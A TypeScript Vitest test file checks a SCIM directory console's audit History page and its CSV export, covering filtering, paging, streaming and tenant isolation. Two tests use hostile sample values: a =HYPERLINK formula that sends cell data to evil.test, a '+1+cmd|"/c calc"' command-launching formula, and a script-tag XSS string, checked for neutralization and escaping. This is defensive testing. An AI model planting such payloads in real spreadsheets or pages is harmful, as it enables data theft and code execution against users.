/**
 * The console's History page and its CSV export through the Worker's fetch: entries newest first
 * with the operation in words, the subject linked, what changed, who and the request id; the
 * filters (user by userName, group, operation or family, actor, admin, instance, UTC days)
 * combined and paged; the CSV streamed with the same filters over more than one storage page,
 * RFC 4180 quoting and formulas from SCIM names neutralized; names escaped; another tenant's ids
 * answered 404.
 */
import { describe, it } from 'vitest'
import { signedIn, textOf, type Browser } from '../support/console'
import { adminJson, reportAgents } from '../support/directory'
import { createTenant, json, scimClient, type TestTenant } from '../support/scim'

interface Created {
  instance: { id: string; name: string }
  key: { id: string; token: string }
}

/** An Entra ID SCIM instance and a SCIM client using its key. */
async function entra(tenant: TestTenant, name: string) {
  const created = await adminJson<Created>(
    'POST',
    `/tenants/${tenant.id}/instances`,
    { name, kind: 'entra-scim' },
    201
  )
  const scim = scimClient({ ...tenant, token: created.key.token, keyId: created.key.id })
  return { instance: created.instance, scim }
}

async function created(res: Response): Promise<{ id: string; requestId: string }> {
  if (res.status !== 201) throw new Error(`create: ${String(res.status)} ${await res.text()}`)
  return { id: (await json(res)).id, requestId: res.headers.get('X-Request-Id') ?? '' }
}

/** Ada created, renamed and put in Sales over SCIM; then an admin puts her on Do Not Track. */
async function story() {
  const tenant = await createTenant()
  const { instance, scim } = await entra(tenant, 'Entra production')
  const ada = await created(
    await scim.post('/Users', { userName: 'ada@contoso.com', displayName: 'Ada' })
  )
  const renamed = await scim.patch(`/Users/${ada.id}`, {
    schemas: ['urn:ietf:params:scim:api:messages:2.0:PatchOp'],
    Operations: [{ op: 'replace', path: 'displayName', value: 'Ada Lovelace' }],
  })
  const renameRequest = renamed.headers.get('X-Request-Id') ?? ''
  const sales = await created(
    await scim.post('/Groups', { displayName: 'Sales', members: [{ value: ada.id }] })
  )
  const b = await signedIn(tenant.id, { email: `hist-${tenant.id}@acme.test` })
  await b.get('/console/dnt')
  const added = await b.post('/console/dnt', { userName: 'ada@contoso.com' })
  if (added.status !== 303) throw new Error(`dnt: ${String(added.status)}`)
  return { tenant, instance, scim, b, ada, sales, renameRequest }
}

/** The entries' rows as text, newest first. */
const rowsOf = (html: string): string[] =>
  (html.split('<tbody>')[1] ?? '')
    .split('<tr>')
    .slice(1)
    .map((r) => textOf(`<tr>${r}`))

const opsOf = async (b: Browser, query: string): Promise<string[]> =>
  [
    ...(await (await b.get(`/console/history?${query}`)).text()).matchAll(
      /<div class="hint mono">([a-z_.]+)<\/div>/g
    ),
  ].map((m) => m[1] ?? '')

/** RFC 4180 records: quoted fields, doubled quotes, CRLF line ends. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] ?? ''
    if (quoted) {
      if (ch !== '"') field += ch
      else if (text[i + 1] === '"') {
        field += '"'
        i++
      } else quoted = false
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      record.push(field)
      field = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      i++
    } else field += ch
  }
  return records
}

const today = () => new Date().toISOString().slice(0, 10)

describe('Console history', () => {
  it('Should list entries newest first, in words, with subject, changes, who and request id', async ({
    expect,
  }) => {
    const { b, ada, sales, renameRequest } = await story()
    const html = await (await b.get('/console/history')).text()
    const rows = rowsOf(html)
    expect(rows[0]).toMatch(
      /^\d{4}-\d\d-\d\d \d\d:\d\d UTC Added to Do Not Track dnt\.add Do Not Track entry: Do Not Track list User: ada@contoso\.com source: operator label: ada@contoso\.com Console admin hist-us_\w+@acme\.test [0-9a-f]{8}…$/
    )
    const update = rows.find((r) => r.includes('user.update')) ?? ''
    expect(update).toContain(
      'User updated user.update User: ada@contoso.com displayName: Ada → Ada Lovelace Identity provider (SCIM) key "Entra production" · Entra production'
    )
    expect(html).toContain(`title="${renameRequest}"`)
    expect(update).toContain(`${renameRequest.slice(0, 8)}…`)
    expect(rows.find((r) => r.includes('membership.add'))).toContain(
      'Added to a group membership.add Group: Sales User: ada@contoso.com members: ada@contoso.com'
    )
    const order = ['dnt.add', 'membership.add', 'group.create', 'user.update', 'user.create']
    expect((await opsOf(b, '')).filter((op) => order.includes(op))).toEqual(order)
    expect(html).toContain(`href="/console/users/${ada.id}"`)
    expect(html).toContain(`href="/console/groups/${sales.id}"`)
    expect(html).toContain('href="/console/history.csv?"')
  })

  it('Should filter by user, group, operation, actor, admin, instance and UTC days, combined and paged', async ({
    expect,
  }) => {
    const { instance, b, ada, sales, scim } = await story()
    expect(await opsOf(b, 'user=ADA@contoso.com')).toEqual([
      'dnt.add',
      'membership.add',
      'user.update',
      'user.create',
    ])
    expect(await opsOf(b, `groupId=${sales.id}`)).toEqual(['membership.add', 'group.create'])
    expect(await opsOf(b, 'group=sales&op=membership.')).toEqual(['membership.add'])
    expect(await opsOf(b, 'op=user.')).toEqual(['user.update', 'user.create'])
    expect(await opsOf(b, 'op=user.update&user=ada@contoso.com')).toEqual(['user.update'])
    expect(await opsOf(b, `instanceId=${instance.id}&actor=scim`)).toEqual([
      'membership.add',
      'group.create',
      'user.update',
      'user.create',
    ])
    const page = await (await b.get('/console/history')).text()
    const adminId = /<option value="([^"]+)">hist-us_\w+@acme\.test<\/option>/.exec(page)?.[1] ?? ''
    expect(await opsOf(b, `actorId=${adminId}&op=dnt.`)).toEqual(['dnt.add'])
    expect(await opsOf(b, 'actor=admin&op=dnt.add')).toEqual(['dnt.add'])
    expect(await opsOf(b, `user=ada@contoso.com&from=${today()}&to=${today()}`)).toHaveLength(4)
    expect(await opsOf(b, 'user=ada@contoso.com&to=2020-01-01')).toEqual([])
    expect(await opsOf(b, `op=user.&from=2999-01-01`)).toEqual([])

    const first = await (await b.get('/console/history?user=ada@contoso.com&limit=2')).text()
    const next = (/href="([^"]+)"[^>]*>Next page/.exec(first)?.[1] ?? '').replaceAll('&amp;', '&')
    expect(next).toMatch(new RegExp(`^/console/history\\?userId=${ada.id}&cursor=[0-9a-f-]{36}$`))
    expect(await opsOf(b, next.split('?')[1] ?? '')).toEqual(['user.update', 'user.create'])

    // A deleted user keeps their history, named by id.
    expect((await scim.del(`/Users/${ada.id}`)).status).toBe(204)
    const gone = await (await b.get(`/console/history?userId=${ada.id}&op=user.`)).text()
    expect(textOf(gone)).toContain(`User: User ${ada.id} (no longer here)`)
    expect(gone).toContain(`<input type="hidden" name="userId" value="${ada.id}"/>`)

    const unknown = textOf(await (await b.get('/console/history?user=nobody@x.test')).text())
    expect(unknown).toContain('No user has the userName "nobody@x.test".')
    expect(unknown).toContain('No history entries match.')
    expect((await b.get('/console/history?from=yesterday')).status).toBe(400)
    expect((await b.get('/console/history?from=2026-02-02&to=2026-02-01')).status).toBe(400)
    expect((await b.get('/console/history?op=user.everything')).status).toBe(400)
  })

  it('Should export the filtered history as a streamed CSV download with a header row', async ({
    expect,
  }) => {
    const { tenant, b } = await story()
    const res = await b.get('/console/history.csv?user=ada@contoso.com&op=user.')
    expect(res.status).toBe(200)
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('Content-Disposition')).toBe(
      `attachment; filename="history-${tenant.id}-${today()}.csv"`
    )
    expect(res.headers.get('Cache-Control')).toBe('no-store')
    const text = await res.text()
    expect(text.endsWith('\r\n')).toBe(true)
    const [header, ...records] = parseCsv(text)
    expect(header).toEqual([
      'Time (UTC)',
      'Operation',
      'Op',
      'Subject type',
      'Subject id',
      'Subject',
      'User id',
      'User',
      'Changes',
      'Actor',
      'Who',
      'Request id',
      'Entry id',
    ])
    expect(records.map((r) => [r[1], r[2], r[5], r[8], r[9], r[10]])).toEqual([
      [
        'User updated',
        'user.update',
        'ada@contoso.com',
        'displayName: Ada → Ada Lovelace',
        'Identity provider (SCIM)',
        'key "Entra production" · Entra production',
      ],
      [
        'User created',
        'user.create',
        'ada@contoso.com',
        expect.stringContaining('userName: ada@contoso.com'),
        'Identity provider (SCIM)',
        'key "Entra production" · Entra production',
      ],
    ])
    const none = await b.get('/console/history.csv?user=nobody@x.test')
    expect(parseCsv(await none.text())).toHaveLength(1)
  })

  it('Should stream every entry of a history longer than one storage page, in order', async ({
    expect,
  }) => {
    const tenant = await createTenant()
    const scim = scimClient(tenant)
    await created(await scim.post('/Users', { userName: 'many@contoso.com' }))
    await reportAgents(
      tenant.id,
      Array.from({ length: 700 }, (_, i) => ({
        id: `pc-${String(i).padStart(3, '0')}`,
        upn: 'many@contoso.com',
      }))
    )
    const b = await signedIn(tenant.id, { email: 'hist-many@acme.test' })
    const expected = await adminJson<{ entries: { id: string }[] }>(
      'GET',
      `/tenants/${tenant.id}/history?limit=1000`
    )
    expect(expected.entries.length).toBeGreaterThan(700)
    const [, ...records] = parseCsv(await (await b.get('/console/history.csv')).text())
    expect(records.map((r) => r[12])).toEqual(expected.entries.map((e) => e.id))
    const links = records.filter((r) => r[2] === 'agent.link')
    expect(links).toHaveLength(700)
    expect(links[0]?.slice(4, 8)).toEqual([
      'pc-699',
      'CONTOSO\\pc-699',
      expect.stringMatching(/^[0-9a-f-]{36}$/),
      'many@contoso.com',
    ])
    const family = parseCsv(await (await b.get('/console/history.csv?op=agent.')).text())
    expect(family).toHaveLength(701)
  })

  it('Should neutralize formulas in names from SCIM and quote fields as RFC 4180 says', async ({
    expect,
  }) => {
    const tenant = await createTenant()
    const scim = scimClient(tenant)
    const formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    await created(await scim.post('/Users', { userName: formula, displayName: '+1+cmd|"/c calc"' }))
    await created(await scim.post('/Groups', { displayName: '@SUM(1,2)' }))
    const b = await signedIn(tenant.id, { email: 'hist-csv@acme.test' })
    const text = await (await b.get('/console/history.csv?op=user.')).text()
    expect(text).not.toMatch(/(^|,|\r\n)=HYPERLINK/)
    const [, user] = parseCsv(text)
    expect(user?.[5]).toBe(`'${formula}`)
    expect(user?.[7]).toBe(`'${formula}`)
    expect(user?.[8]).toContain(`displayName: +1+cmd|"/c calc"`)
    const [, group] = parseCsv(await (await b.get('/console/history.csv?op=group.')).text())
    expect(group?.[5]).toBe("'@SUM(1,2)")
    expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`)
  })

  it('Should render names from SCIM as text on the History page', async ({ expect }) => {
    const tenant = await createTenant()
    const scim = scimClient(tenant)
    const evil = '<script>alert(1)</script>'
    const user = await created(await scim.post('/Users', { userName: `${evil}@contoso.com` }))
    await created(await scim.post('/Groups', { displayName: evil, members: [{ value: user.id }] }))
    const b = await signedIn(tenant.id, { email: 'hist-xss@acme.test' })
    for (const path of ['/console/history', `/console/history?userId=${user.id}`]) {
      const html = await (await b.get(path)).text()
      expect(html).not.toContain(evil)
      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;@contoso.com</a>')
    }
    const byName = await (await b.get(`/console/history?group=${encodeURIComponent(evil)}`)).text()
    expect(byName).not.toContain(evil)
    expect(byName).toContain('value="&lt;script&gt;alert(1)&lt;/script&gt;"')
  })

  it("Should answer 404 to another tenant's admin for its users, groups, admins and instances", async ({
    expect,
  }) => {
    const { instance, ada, sales, b } = await story()
    const page = await (await b.get('/console/history')).text()
    const adminId = /<option value="([^"]+)">hist-us_\w+@acme\.test<\/option>/.exec(page)?.[1] ?? ''
    const other = await createTenant()
    const stranger = await signedIn(other.id, { email: 'hist-stranger@acme.test' })
    for (const query of [
      `userId=${ada.id}`,
      `groupId=${sales.id}`,
      `actorId=${adminId}`,
      `instanceId=${instance.id}`,
    ]) {
      expect((await stranger.get(`/console/history?${query}`)).status).toBe(404)
      expect((await stranger.get(`/console/history.csv?${query}`)).status).toBe(404)
    }
    const own = await (await stranger.get('/console/history?user=ada@contoso.com')).text()
    expect(textOf(own)).toContain('No user has the userName "ada@contoso.com".')
    const csv = await (await stranger.get('/console/history.csv')).text()
    expect(csv).not.toContain('ada@contoso.com')
  })
})
